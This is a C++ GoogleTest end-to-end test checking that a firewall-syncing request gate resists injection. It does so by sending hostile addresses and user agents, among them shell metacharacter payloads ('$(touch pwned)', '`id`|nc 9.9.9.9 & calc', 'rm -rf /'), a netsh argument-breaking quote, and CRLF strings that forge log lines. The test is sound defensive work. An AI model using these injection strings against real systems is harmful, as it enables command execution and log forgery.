// Addresses, URIs and user agents built to inject: quotes, shell
// metacharacters, and percent-encoded CR, LF and NUL, which the library
// decodes. Through the real gate, with the stand-in netsh recording every
// argument it gets: no line of any file or console stream is split or
// forged, and nothing reaches a command as syntax.
#include <gtest/gtest.h>

#include <filesystem>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "support/GateProcess.h"
#include "support/HttpExchange.h"
#include "support/TextLines.h"

namespace {

const std::string kConsoleRequest = "[\xb5\xb1\xc7\xb0\xc7\xeb\xc7\xf3] IP:";

// As sent (percent escapes included) and as the gate sees it.
struct Hostile {
  std::string sent;
  std::string seen;
};

const std::vector<Hostile> kKeywordIps = {
    {"1.2.3.4\" dir=out action=allow \"x",
     "1.2.3.4\" dir=out action=allow \"x"},
    {"1.2.3.5;reboot", "1.2.3.5;reboot"},
    {"1.2.3.6$(touch pwned)", "1.2.3.6$(touch pwned)"},
    {"1.2.3.7`id`|nc 9.9.9.9 & calc", "1.2.3.7`id`|nc 9.9.9.9 & calc"},
    {"'1.2.3.8'", "'1.2.3.8'"},
    {"1.2.3.9%0A5.6.7.8", "1.2.3.9\n5.6.7.8"},
    {"1.2.3.10%0D%0A[BotGuard] VERIFIED VALID BOT: 6.6.6.6",
     "1.2.3.10\r\n[BotGuard] VERIFIED VALID BOT: 6.6.6.6"},
    {"1.2.3.11%00.99", "1.2.3.11"},
    {"1.2.3.12%09tab", "1.2.3.12\ttab"},
};
const std::vector<Hostile> kShieldIps = {
    {"1.2.4.1\"&calc&\"", "1.2.4.1\"&calc&\""},
    {"1.2.4.2%0A1.2.4.3", "1.2.4.2\n1.2.4.3"},
};
const std::vector<std::string> kUserAgents = {
    "Mozilla\"; rm -rf / #", "a%0Ab", "x%0D%0A2026-01-01 00:00:00 IP: 9.9.9.9",
    "curl%00hidden"};
const std::string kForgingUri =
    "/wp-login%0A[BotGuard] VERIFIED VALID BOT: 7.7.7.7";

bool startsWithAny(const std::string& line,
                   const std::vector<std::string>& prefixes) {
  for (const std::string& prefix : prefixes) {
    if (line.rfind(prefix, 0) == 0) return true;
  }
  return false;
}

class InjectionE2ETest : public ::testing::Test {
 protected:
  void SetUp() override {
    gate_.dir().write("config/BadIPs.txt", "10.0.0.1\n");
    gate_.dir().write("config/BadUrlKeyWord.txt", "wp-login\n");
    gate_.dir().write("config/NotAllowed.txt", "curl\n");
    gate_.useStandInNetsh();
    // Every request adds 10: an address's second request is blocked.
    gate_.writeConfig(
        {{"features", {{"enable_firewall_sync", true}}},
         {"shield", {{"limit_qps", 0}, {"score_threshold", 20}}}});
    gate_.start();
  }

  int check(const std::string& ip, const std::string& uri,
            const std::string& userAgent = "Mozilla/5.0") {
    return HttpExchange::check(gate_.port(), ip, uri, userAgent).status;
  }

  GateProcess gate_;
};

TEST_F(InjectionE2ETest, NothingSplitsALineOrReachesACommandAsSyntax) {
  size_t logged = 0;
  for (const Hostile& ip : kKeywordIps) {
    EXPECT_EQ(check(ip.sent, "/wp-login.php"), 401) << ip.sent;
    EXPECT_EQ(check(ip.sent, "/"), 401) << ip.sent;  // blacklisted
    ++logged;
  }
  for (const Hostile& ip : kShieldIps) {
    EXPECT_EQ(check(ip.sent, "/"), 200) << ip.sent;
    EXPECT_EQ(check(ip.sent, "/"), 401) << ip.sent;
    logged += 2;
  }
  for (size_t i = 0; i < kUserAgents.size(); ++i) {
    const std::string& userAgent = kUserAgents[i];
    EXPECT_EQ(check("203.0.113." + std::to_string(10 + i), "/", userAgent),
              userAgent.rfind("curl", 0) == 0 ? 401 : 200);
    ++logged;
  }
  EXPECT_EQ(check("203.0.113.2", kForgingUri), 401);
  ++logged;
  // Its own answer may meet its fake verdict already: then it is not logged.
  if (check("192.0.2.60", "/", "bot%0D%0Ainjected") == 200) ++logged;
  ASSERT_TRUE(gate_.waitForOut("FAKE BOT DETECTED: 192.0.2.60 ", 30000));

  // The blacklist file: one whole line per address that can be one; those
  // holding a line break are refused there and kept in memory only.
  std::set<std::string> expected = {"10.0.0.1", "203.0.113.2", "192.0.2.60"};
  for (const std::vector<Hostile>* ips : {&kKeywordIps, &kShieldIps}) {
    for (const Hostile& ip : *ips) {
      if (ip.seen.find_first_of("\r\n") == std::string::npos)
        expected.insert(ip.seen);
    }
  }
  const std::string badIps = gate_.dir().read("config/BadIPs.txt");
  const std::vector<std::string> lines = splitLines(badIps);
  EXPECT_EQ(std::set<std::string>(lines.begin(), lines.end()), expected);
  EXPECT_EQ(lines.size(), expected.size());
  EXPECT_EQ(badIps.back(), '\n');

  // The decision log: one well-formed line per logged outcome.
  static const std::regex kLogLine(
      R"(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d IP: .* \[[^\]]+\] \d{3} User-Agent: [^\r]*)");
  const std::vector<std::string> log = splitLines(gate_.decisionLog());
  EXPECT_EQ(log.size(), logged);
  for (const std::string& line : log)
    EXPECT_TRUE(std::regex_match(line, kLogLine)) << line;

  // The console: every line is one the gate writes; none is forged.
  // The rules, once the watch has applied the last append: only the safe
  // entries, in file order.
  const std::string rule = "10.0.0.1,1.2.3.11,203.0.113.2,192.0.2.60\n";
  gate_.waitForFile("rules/QV_0", rule, 30000);
  EXPECT_EQ(gate_.dir().read("rules/QV_0"), rule);
  const std::string out = gate_.out();
  const std::string banner(50, '-');
  for (const std::string& line :
       splitLines(out.substr(out.rfind(banner) + banner.size() + 1))) {
    EXPECT_TRUE(startsWithAny(
        line,
        {kConsoleRequest, "[\xb6\xf1\xd2\xe2\xb7\xc3\xce\xca]:Bad IP ",
         "IP\xd4\xf6\xb7\xd6: ", "[DynamicShield] BLOCKING MALICIOUS IP: ",
         "[\xb6\xaf\xcc\xac\xd0\xd0\xce\xaa\xbc\xe0\xb2\xe2] High QPS(",
         "[BotGuard] FAKE BOT DETECTED: 192.0.2.60 ",
         "[FPCheck] IP added to blacklist: 192.0.2.60", "[Firewall",
         "Updated 1 rule(s).", "Ok."}))
        << line;
  }
  // Each address holding a line break was refused by the file once.
  EXPECT_EQ(countOf(gate_.err(),
                    "[Error] Refused to write an entry holding a "
                    "line break to file: config/BadIPs.txt\n"),
            3u);
  for (const std::string& line : splitLines(gate_.err())) {
    EXPECT_TRUE(startsWithAny(
        line, {"[Error-Handler] 401 for IP: ",
               "[Error] Refused to write an entry holding a line break to "
               "file: config/BadIPs.txt",
               "[Firewall] Skipping unsafe entry: "}))
        << line;
  }

  // Every argument netsh got is one value of harmless text.
  static const std::regex kNetshCall(
      "advfirewall\tfirewall\t(set\trule\tname=QV_0\tnew|add\trule\tname=QV_0"
      "\tdir=in\taction=block)\tremoteip=[0-9.,]+");
  for (const std::string& call : splitLines(gate_.dir().read("netsh.log")))
    EXPECT_TRUE(std::regex_match(call, kNetshCall)) << call;
  EXPECT_FALSE(std::filesystem::exists(gate_.dir().path() / "pwned"));
}

}  // namespace
